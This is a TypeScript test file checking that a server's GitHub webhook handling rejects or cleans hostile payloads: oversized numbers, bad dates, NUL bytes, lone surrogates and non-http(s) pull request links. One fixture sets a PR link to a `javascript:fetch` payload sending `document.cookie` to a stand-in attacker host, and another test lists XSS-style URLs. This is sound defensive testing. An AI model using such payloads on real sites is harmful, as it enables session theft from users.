// What GitHub (or someone holding a webhook secret, or a hostile API) may send that we cannot
// store as is: numbers beyond our columns, text PostgreSQL refuses, links that are not links.
// Each is a 400 or is kept cleaned, never a 500; a `javascript:` PR link is never served or shown.
import { fileURLToPath } from 'node:url';
import t, { type Test } from 'tap';
import { pushMissionBranch, servedProject } from '../dispatch/fixtures.ts';
import { startTestApp } from '../helpers/app.ts';
import { deliverWebhook, type FakeGitHub, startFakeGitHub } from '../helpers/fake-github.ts';

const app = await startTestApp(t, { outboundAllow: ['127.0.0.1'] }); // the fake GitHub is on http://127.0.0.1
const api = app.admin;
const SECRET = 'hostile-webhook-secret-0123';
const hook = `${app.baseUrl}/api/v1/github/webhook`;
const pullRequests = async (missionId: string) => (await api.get(`/api/v1/missions/${missionId}/pull-requests`)).body.items as any[];
const events = async (missionId: string) => (await api.get(`/api/v1/missions/${missionId}/events?limit=500`)).body.items as { kind: string; data: any }[];

/** A mission in PR mode on GitHub repository acme/<name> whose attempt succeeded: its PR is open on the fake. */
async function missionWithPr(t: Test, gh: FakeGitHub, name: string) {
  const p = await servedProject(app, { repository: { github: { owner: 'acme', name } } });
  t.equal((await api.put(`/api/v1/projects/${p.project.id}/github`, { token: gh.token, apiBaseUrl: gh.baseUrl, webhookSecret: SECRET })).status, 200);
  const client = await p.connect();
  t.teardown(() => client.close());
  const m = await p.mission({ title: `Change ${name}`, prMode: 'enabled' });
  await pushMissionBranch(client, m.id, 'c'.repeat(40));
  await app.app.pullRequests.worker.kick();
  const pull = gh.pulls.find((x) => x.repo === name)!;
  t.ok(pull, 'the PR is open');
  return { m, pull };
}

async function fakeGitHub(t: Test, opts: Parameters<typeof startFakeGitHub>[0] = {}) {
  const gh = await startFakeGitHub(opts);
  t.teardown(() => gh.stop());
  return gh;
}

t.test('a signed delivery with numbers, ids or times beyond what we store is a 400 naming the field, never a 500', async (t) => {
  const gh = await fakeGitHub(t);
  const { pull } = await missionWithPr(t, gh, 'numbers');
  const pr = gh.payloads.pullRequest(pull, 'closed') as any;
  for (const number of [2 ** 53, 1e20, 2_147_483_648, -1, 0, 1.5, '7', null]) {
    const res = await deliverWebhook(hook, 'pull_request', { ...pr, pull_request: { ...pr.pull_request, number } }, { secret: SECRET });
    t.equal(res.status, 400, `PR number ${number}`);
    t.match(res.body, { error: { code: 'SU_ERR_VALIDATION', message: /^body\.pull_request\.number: / } });
  }
  const comment = gh.payloads.issueComment(pull, gh.addIssueComment('acme', 'numbers', pull.number, { login: 'rev', body: 'hi' })) as any;
  const bad: [string, object][] = [
    ['body.issue.number', { ...comment, issue: { ...comment.issue, number: 1e20 } }],
    ['body.comment.id', { ...comment, comment: { ...comment.comment, id: 2 ** 64 } }],
    ['body.comment.id', { ...comment, comment: { ...comment.comment, id: '12' } }],
  ];
  for (const [field, payload] of bad) {
    const res = await deliverWebhook(hook, 'issue_comment', payload, { secret: SECRET });
    t.equal(res.status, 400, field);
    t.match(res.body, { error: { code: 'SU_ERR_VALIDATION', details: [{ field }] } }, field);
  }
  for (const when of ['0000-01-01T00:00:00Z', 'not a date', '+275760-09-13T00:00:00Z']) {
    const res = await deliverWebhook(hook, 'pull_request', { ...pr, pull_request: { ...pr.pull_request, merged_at: when } }, { secret: SECRET });
    t.match(res, { status: 400, body: { error: { code: 'SU_ERR_VALIDATION', details: [{ field: 'body.pull_request.merged_at' }] } } }, when);
  }
  // Matched against linked repositories before the signature is known: still a 400, not a 500.
  const res = await deliverWebhook(hook, 'pull_request', { ...pr, repository: { name: 'numb\u0000ers', owner: { login: 'acme' } } }, { secret: SECRET });
  t.match(res, { status: 400, body: { error: { code: 'SU_ERR_VALIDATION' } } });
  // The PR is untouched and the server fine: the real delivery still works.
  t.equal((await deliverWebhook(hook, 'pull_request', pr, { secret: SECRET })).status, 200);
});

t.test('comment text with NUL or a lone surrogate is kept, cleaned, whether delivered or polled', async (t) => {
  const gh = await fakeGitHub(t);
  const { m, pull } = await missionWithPr(t, gh, 'text');
  gh.setPermission('rev', 'write');
  const delivered = gh.addIssueComment('acme', 'text', pull.number, { login: 'rev', body: 'see\u0000this \ud800 part' });
  const res = await deliverWebhook(hook, 'issue_comment', gh.payloads.issueComment(pull, delivered), { secret: SECRET });
  t.match(res, { status: 200, body: { newComments: 1 } });
  gh.addReviewComment('acme', 'text', pull.number, { login: 'rev', body: 'polled\u0000 \udc00 too', path: 'src/a\u0000.ts', line: 3 });
  await app.app.pullRequests.poller.pollOnce();

  const comments = (await pullRequests(m.id))[0].comments as any[];
  t.same(comments.map((c) => c.body).sort(), ['polled\uFFFD \uFFFD too', 'see\uFFFDthis \uFFFD part']);
  t.equal(comments.find((c) => c.kind === 'review_comment')?.path, 'src/a\uFFFD.ts');
  const timeline = (await events(m.id)).filter((e) => e.kind === 'pr.comment').map((e) => e.data.body);
  t.same(timeline.sort(), ['polled\uFFFD \uFFFD too', 'see\uFFFDthis \uFFFD part'], 'the timeline shows the cleaned text');
});

t.test('a pull request link that is not http(s) is neither stored nor served', async (t) => {
  const gh = await fakeGitHub(t, { htmlUrl: () => 'javascript:fetch(`//evil.example/${document.cookie}`)' });
  const { m, pull } = await missionWithPr(t, gh, 'links');
  const [pr] = await pullRequests(m.id);
  t.match(pr, { number: pull.number, url: null }, 'the PR is tracked without its link');
  t.equal((await events(m.id)).find((e) => e.kind === 'pr.opened')?.data.url, null, 'nor is it on the timeline');
});

t.test('the board links a pull request only over http(s)', async (t) => {
  const { httpHref } = await import(fileURLToPath(new URL('../../web/js/links.js', import.meta.url))) as { httpHref(u: unknown): string | undefined };
  t.equal(httpHref('https://github.com/acme/app/pull/7'), 'https://github.com/acme/app/pull/7');
  t.equal(httpHref('http://ghe.corp/acme/app/pull/7'), 'http://ghe.corp/acme/app/pull/7');
  for (const bad of ['javascript:alert(1)', ' JavaScript:alert(1)', 'data:text/html,x', 'vbscript:x', '/relative', '', null, undefined]) t.equal(httpHref(bad), undefined, String(bad));
});

t.test('a token that is not printable ASCII is a 400 naming the field: never cut mid-character into its stored hint', async (t) => {
  const p = await servedProject(app, { repository: { github: { owner: 'acme', name: 'emoji-token' } } });
  // Its last four UTF-16 units would end in half of the emoji: a lone surrogate PostgreSQL refuses.
  for (const token of ['ghp_abcdefgh\u{1F600}', 'ghp_abc\u0000defgh', 'ghp_abcdéfghij']) {
    const res = await api.put(`/api/v1/projects/${p.project.id}/github`, { token });
    t.equal(res.status, 400, JSON.stringify(token));
    t.match(res.body.error, { code: 'SU_ERR_VALIDATION', message: /token/ });
  }
  t.equal((await api.get(`/api/v1/projects/${p.project.id}/github`)).status, 404, 'nothing stored');
});
